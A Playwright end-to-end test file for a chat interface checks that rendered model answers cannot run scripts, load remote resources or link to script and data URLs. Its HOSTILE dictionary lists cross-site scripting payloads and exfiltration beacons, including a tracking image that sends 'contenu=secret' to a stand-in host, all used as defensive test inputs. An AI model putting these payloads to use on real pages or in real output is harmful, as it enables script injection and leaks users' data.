"""A model's text is an attacker's text: nothing of it runs, is fetched, or leads where it should not."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.catalogue import ECHO
from tests.e2e.conversing import Conversation

# Each would call `window.__ran` or reach for a host that does not exist; a watched page reports the second.
HOSTILE = {
    "raw script": "<script>window.__ran = 1</script>",
    "raw image": "<img src=x onerror='window.__ran = 1'>",
    "raw frame": "<iframe srcdoc='<script>parent.__ran = 1</script>'></iframe>",
    "vector image": "<svg onload='window.__ran = 1'><a href='javascript:window.__ran=1'>x</a></svg>",
    "remote image": "![suivi](https://ailleurs.example/pixel.png?contenu=secret)",
    "image by reference": "![suivi][1]\n\n[1]: https://ailleurs.example/pixel.png",
    "script link": "[cliquez](javascript:window.__ran=1)",
    "hidden script link": "[cliquez](java\u200bscript:window.__ran=1)",
    "data link": "[cliquez](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
    "relative link": "[cliquez](/api/session)",
    "style": "<style>body { background: url(https://ailleurs.example/fond.png) }</style>",
    "preload": "<link rel=preload as=image href=https://ailleurs.example/pixel.png>",
    "form": "<form action=https://ailleurs.example><button>Envoyer</button></form>",
}


def test_hostile_answers_do_nothing(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("\n\n".join(["Début", *HOSTILE.values(), "Fin"]))
    expect(turn.get_by_role("paragraph").last).to_have_text("Fin")
    expect(turn.get_by_role("img")).to_have_count(0)
    expect(turn.get_by_role("form")).to_have_count(0)
    for each in turn.get_by_text("cliquez", exact=True).all():
        each.click()
    addresses = [link.get_attribute("href") or "" for link in turn.get_by_role("link").all()]
    assert all(address.startswith("https://ailleurs.example/") for address in addresses), addresses
    assert (
        turn.evaluate("(turn) => turn.querySelectorAll('script, iframe, svg, style, link, form').length") == 0
    )
    assert nurse.evaluate("window.__ran") is None


@pytest.mark.parametrize("kind", ["script link", "data link"])
def test_an_address_that_would_run_is_no_link(nurse: Page, kind: str) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered(HOSTILE[kind])
    expect(turn.get_by_role("paragraph").last).to_have_text("cliquez")
    expect(turn.get_by_role("link")).to_have_count(0)


def test_a_link_shows_where_it_leads_and_tells_nothing_of_the_page(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("Voyez [la fiche de l’ARS](https://ailleurs.example/fiche?dossier=4012).")
    link = turn.get_by_role("link", name="la fiche de l’ARS")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(turn.get_by_role("paragraph").last).to_contain_text("(ailleurs.example/fiche?dossier=4012)")


def test_tables_and_code_are_drawn_and_reached_by_keyboard(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("| Dose | Voie |\n|---|---|\n| 10 mg | orale |\n\n```\nbonjour\n```")
    expect(turn.get_by_role("cell", name="10 mg")).to_be_visible()
    for name in ("Tableau, à faire défiler", "Code, à faire défiler"):
        turn.get_by_role("group", name=name).focus()
        expect(turn.get_by_role("group", name=name)).to_be_focused()
